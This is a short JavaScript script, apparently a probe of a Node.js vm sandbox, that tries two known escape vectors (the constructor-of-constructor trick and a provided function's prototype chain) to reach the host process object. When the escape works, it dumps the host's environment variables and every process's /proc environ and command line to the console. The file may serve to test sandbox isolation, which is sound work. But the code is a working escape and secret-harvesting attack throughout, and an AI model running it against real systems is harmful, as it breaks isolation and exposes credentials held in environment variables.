// With the host process (if reachable): its environment, PID 1's environ and command lines.
let P = null;
// The vectors of vm-escape-process.js: the global object's inherited constructor, a provided function's prototype.
for (const get of [() => this.constructor.constructor('return process')(), () => Object.getPrototypeOf(input.prototype).constructor.constructor('return process')()]) {
  try { P = get(); } catch (e) { P = null; }
  if (P && typeof P.pid === 'number') break;
  P = null;
}
if (!P) {
  console.log('blocked: no process');
} else {
  const fs = P.getBuiltinModule('fs');
  console.log('env', JSON.stringify(P.env));
  for (const pid of fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
    for (const what of ['environ', 'cmdline']) {
      try { console.log(pid, what, fs.readFileSync(`/proc/${pid}/${what}`, 'latin1').replaceAll('\0', ' ')); } catch (e) { console.log(pid, what, 'blocked', e.code); }
    }
  }
}
